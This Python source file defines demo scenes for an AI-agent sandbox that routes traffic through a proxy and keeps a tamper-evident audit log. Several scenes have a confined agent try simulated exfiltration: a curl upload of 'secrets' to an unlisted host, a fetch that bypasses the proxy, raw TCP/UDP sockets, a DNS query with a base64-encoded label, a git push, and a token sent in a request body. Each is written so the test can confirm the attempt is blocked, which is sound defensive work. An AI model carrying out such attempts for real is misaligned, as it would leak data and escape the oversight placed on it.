"""The demo's scenes: what the agent tries, what must come of it, and how both are known.

A scene is judged by what the scripted servers saw and by what the audit log says, not by what the agent
was told.
"""

from __future__ import annotations

import json
import secrets
import shlex
import string
from collections.abc import Callable
from dataclasses import dataclass
from typing import TYPE_CHECKING, TypeAlias

from bot_bottle.audit_reading import verify
from bot_bottle.backend.registry import get_bottle_backend
from bot_bottle.demo.evidence import SECONDS, decided, error_text, last_line, places_of, text, whereabouts
from bot_bottle.demo.git_scene import push_scanned
from bot_bottle.demo.stage import (
    ELSEWHERE_HOST,
    FINAL_TEXT,
    MODEL_HOST,
    PLACEHOLDER,
    SITE_HOST,
    Outcome,
    Stage,
)
from bot_bottle.verify.inside import python_command

if TYPE_CHECKING:
    from bot_bottle.backend.base import ExecResult

# What the agent says where curl is missing: the standard library of the interpreter that every bottle has.
_FETCH = """
import os, sys, urllib.request, urllib.error
url, direct, data = sys.argv[1], sys.argv[2] == "direct", sys.argv[3]
handlers = [urllib.request.ProxyHandler({})] if direct else []
headers = dict(header.split(": ", 1) for header in sys.argv[4:])
request = urllib.request.Request(url, data=data.encode() or None, headers=headers)
try:
    print(urllib.request.build_opener(*handlers).open(request, timeout=8).read().decode())
except urllib.error.HTTPError as error:
    print(error.read().decode())
"""

# A connection and a datagram to a public resolver, with no name, no proxy and no library in between.
_RAW = """
import socket
for label, kind, address in (
    ("tcp 1.1.1.1:443", socket.SOCK_STREAM, ("1.1.1.1", 443)),
    (f"udp 8.8.8.8:{UDP}", socket.SOCK_DGRAM, ("8.8.8.8", UDP)),
    ("tcp this machine's HOST:PORT", socket.SOCK_STREAM, ("HOST", PORT)),
):
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.settimeout(5)
        try:
            sock.connect(address)
            sock.send(b"out")
            print(label + (": SENT" if not CARD or sock.recv(1) else ": closed at once"))
        except OSError as error:
            print(label + ": " + str(error.strerror or error))
try:
    print("a look-up says: " + socket.getaddrinfo("LABEL", 443, socket.AF_INET)[0][4][0])
except OSError as error:
    print("a look-up says: " + str(error.strerror))
"""
#: Where bottles find their sidecar unless they have a network card, behind which all that they send ends.
_LOOPBACK = "127.0.0.1"
#: A port of datagrams that nothing behind a card answers by itself.
_UNUSED = 9999


@dataclass(frozen=True, slots=True, kw_only=True)
class Scene:
    """One scene: its title and what happens."""

    title: str
    play: Play


Play: TypeAlias = Callable[[Stage], Outcome]


def model_answers(stage: Stage) -> Outcome:
    """The credential is added outside: upstream sees the real one, the bottle only holds a placeholder."""
    task = json.dumps(
        {"model": "scripted", "max_tokens": 64, "messages": [{"role": "user", "content": "Hello"}]}
    )
    tried, result = _fetch(
        stage,
        f"https://{MODEL_HOST}/v1/messages",
        data=task,
        headers=("Authorization: Bearer $MODEL_TOKEN", "Content-Type: application/json"),
    )
    answered = FINAL_TEXT in text(result)
    sent = [seen.values("authorization") for seen in stage.model.seen]
    raw = b"".join(seen.raw + seen.body for seen in stage.model.seen)
    upstream_ok = sent == [[f"Bearer {stage.token}"]] and PLACEHOLDER.encode() not in raw
    found = places_of(stage, stage.token)
    return Outcome(
        ok=answered and upstream_ok and not found,
        told=(
            ("tried", tried),
            ("happened", f"the agent read: {FINAL_TEXT if answered else text(result)!r}"),
            ("upstream", "saw Authorization: Bearer " + _masked(sent, stage.token)),
            ("bottle", f"has MODEL_TOKEN={PLACEHOLDER}; {whereabouts(found)}"),
            *decided(stage, MODEL_HOST),
        ),
    )


def host_not_allowed(stage: Stage) -> Outcome:
    """A host that no route names."""
    tried, result = _fetch(stage, f"https://{ELSEWHERE_HOST}/upload?data=secrets")
    return _refused(
        stage,
        tried,
        result,
        host=ELSEWHERE_HOST,
        reason="host_not_allowed",
        silent=not stage.elsewhere.accepted,
    )


def proxy_ignored(stage: Stage) -> Outcome:
    """A client that does not know of the proxy: the same rules, the same words."""
    before = len(stage.site.seen)
    allowed_command, allowed = _fetch(stage, f"https://{SITE_HOST}/guide", direct=True)
    refused_command, refused = _fetch(stage, f"https://{ELSEWHERE_HOST}/upload", direct=True)
    arrived = [seen.target for seen in stage.site.seen[before:]]
    silent = not stage.elsewhere.accepted
    if _has_card(stage):
        outcome = _unresolved(refused_command, refused, silent=silent)
    else:
        outcome = _refused(
            stage, refused_command, refused, host=ELSEWHERE_HOST, reason="host_not_allowed", silent=silent
        )
    ok = outcome.ok and arrived == ["/guide"] and SITE_HOST in text(allowed)
    reached = "reached the site" if arrived == ["/guide"] else f"did not go as it should: {text(allowed)!r}"
    return Outcome(ok=ok, told=(("tried", allowed_command), ("happened", reached), *outcome.told))


def raw_and_dns(stage: Stage) -> Outcome:
    """There is no route: a raw connection and a datagram fail in the bottle's own kernel namespace."""
    label = f"c2VjcmV0.{ELSEWHERE_HOST}"
    host, _, port = stage.elsewhere.address.rpartition(":")
    has_card = _has_card(stage)
    # Behind a card every DNS question is answered at once, that there is no such name; so no answer is proof.
    udp = _UNUSED if has_card else 53
    code = f"CARD = {has_card}; UDP = {udp}\n"
    code += _RAW.replace("HOST", host).replace("PORT", port).replace("LABEL", label)
    result = stage.bottle.exec(python_command(), stdin=code.encode(), timeout=SECONDS)
    lines = text(result).splitlines()
    nothing_sent = len(lines) == 4 and "SENT" not in text(result)
    own_answer = bool(lines) and lines[-1].endswith(f" {_LOOPBACK}")
    on_record = any(line.get("event") == "dns" and line.get("name") == label for line in stage.audit())
    so = "the name was answered by the sidecar with its own address and forwarded to nobody"
    if has_card:  # nothing in it resolves names, and nobody is asked
        own_answer = bool(lines) and lines[-1].rpartition(" ")[2].isalpha()
        on_record = not any(label in str(line) for line in stage.audit())
        so = "whatever leaves its card ends on this machine, and no name is ever asked for"
    return Outcome(
        ok=nothing_sent and own_answer and on_record and not stage.elsewhere.accepted,
        told=(
            (
                "tried",
                f"connect to 1.1.1.1:443; send to 8.8.8.8:{udp}; connect to the host; look up {label}",
            ),
            *(("happened", line) for line in lines or [error_text(result)]),
            ("so", so),
            ("upstream", f"connections seen outside: {len(stage.elsewhere.accepted)}"),
            *(() if has_card else decided(stage, label)),
        ),
    )


def push_refused(stage: Stage) -> Outcome:
    """A git push over HTTP, to a host that is otherwise allowed."""
    tried, result = _fetch(stage, f"https://{SITE_HOST}/me/repo.git/info/refs?service=git-receive-pack")
    return _refused(
        stage, tried, result, host=SITE_HOST, reason="git_push_denied", silent=_no_push_seen(stage)
    )


def credential_kept_in(stage: Stage) -> Outcome:
    """A key that the agent found, in the body of a request to a host that is otherwise allowed."""
    key = "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))
    tried, result = _fetch(stage, f"https://{SITE_HOST}/notes", data=json.dumps({"note": f"my key is {key}"}))
    silent = not any(key.encode() in seen.body or key in seen.target for seen in stage.site.seen)
    return _refused(stage, tried, result, host=SITE_HOST, reason="credential_found", silent=silent)


def record_is_whole(stage: Stage) -> Outcome:
    """The audit chain proves itself, and a single changed byte disproves it."""
    verdict = verify(stage.plan.audit_path)
    forged = stage.plan.audit_path.with_suffix(".forged")
    forged.write_bytes(stage.plan.audit_path.read_bytes().replace(b'"deny"', b'"allow"', 1))
    forged_verdict = verify(forged)
    forged.unlink()
    state_gone = not stage.plan.state_dir.exists()
    return Outcome(
        ok=verdict.ok and verdict.ended and not forged_verdict.ok and state_gone,
        told=(
            ("tried", f"bot-bottle audit verify {stage.plan.identity}"),
            ("happened", verdict.message),
            ("tried", "the same on a copy with one deny turned into allow"),
            ("happened", forged_verdict.message),
            ("state", "removed" if state_gone else f"still there: {stage.plan.state_dir}"),
        ),
    )


SCENES = (
    Scene(title="The model answers, and the token was never in the bottle", play=model_answers),
    Scene(title="A host that nobody allowed", play=host_not_allowed),
    Scene(title="A client that ignores the proxy", play=proxy_ignored),
    Scene(title="A raw connection and a DNS query go nowhere", play=raw_and_dns),
    Scene(title="A git push over HTTP, even to an allowed host", play=push_refused),
    Scene(title="A credential in the body of a request to an allowed host", play=credential_kept_in),
    Scene(title="A commit with a cloud key stays in; without the key it is pushed", play=push_scanned),
)

#: Played after the bottle is gone.
EPILOGUE = (Scene(title="The record is whole, and nothing of the bottle is left", play=record_is_whole),)


def _refused(
    stage: Stage, tried: str, result: ExecResult, *, host: str, reason: str, silent: bool
) -> Outcome:
    """Judge a refusal: the agent read why, nothing arrived (``silent``), and the audit line says the same."""
    try:
        body = json.loads(text(result))
    except ValueError:
        body = {}
    last = last_line(stage, host)
    explained = body.get("error") == "bot_bottle_denied" and body.get("reason") == reason
    recorded = last.get("decision") == "deny" and last.get("reason") == reason
    words = f"403 {body.get('reason')}: {body.get('message')}" if body else f"no refusal: {text(result)!r}"
    return Outcome(
        ok=explained and recorded and silent,
        told=(
            ("tried", tried),
            ("happened", words),
            ("next", str(body.get("next_step", ""))),
            ("upstream", "saw nothing" if silent else "SAW THE REQUEST"),
            *decided(stage, host),
        ),
    )


def _has_card(stage: Stage) -> bool:
    return get_bottle_backend(stage.plan.backend_name).sidecar_address != _LOOPBACK


def _unresolved(tried: str, result: ExecResult, *, silent: bool) -> Outcome:
    """Judge a request to a host of no route where only routes' names resolve: it does not even begin."""
    return Outcome(
        ok=result.returncode != 0 and not text(result) and silent,
        told=(
            ("tried", tried),
            ("happened", error_text(result)),
            ("so", "only names of routes resolve in it, so the request does not even begin"),
            ("upstream", "saw nothing" if silent else "SAW THE REQUEST"),
        ),
    )


def _no_push_seen(stage: Stage) -> bool:
    return not any("receive-pack" in seen.target for seen in stage.site.seen)


def _fetch(
    stage: Stage, url: str, *, data: str = "", headers: tuple[str, ...] = (), direct: bool = False
) -> tuple[str, ExecResult]:
    """Let the agent fetch ``url``; gives the command it ran, as a reader would type it, and its result."""
    quoted = [f'"{header}"' for header in headers]  # double quotes: the shell fills $MODEL_TOKEN in
    curl = ["curl", "-sS", *(["--noproxy", "'*'"] if direct else []), *(f"-H {header}" for header in quoted)]
    curl += [*(["-d", shlex.quote(data)] if data else []), shlex.quote(url)]
    command = " ".join(curl)
    if _has_curl(stage):
        return command, stage.bottle.exec(command, timeout=SECONDS)
    arguments = [shlex.quote(url), "direct" if direct else "proxy", shlex.quote(data), *quoted]
    script = f"{python_command()} {' '.join(arguments)}"
    return script, stage.bottle.exec(script, stdin=_FETCH.encode(), timeout=SECONDS)


def _has_curl(stage: Stage) -> bool:
    return stage.bottle.exec("command -v curl", timeout=SECONDS).returncode == 0


def _masked(sent: list[list[str]], token: str) -> str:
    if sent == [[f"Bearer {token}"]]:
        return f"{token[:15]}…{token[-4:]} (the real one)"
    return f"something else, {len(sent)} times"
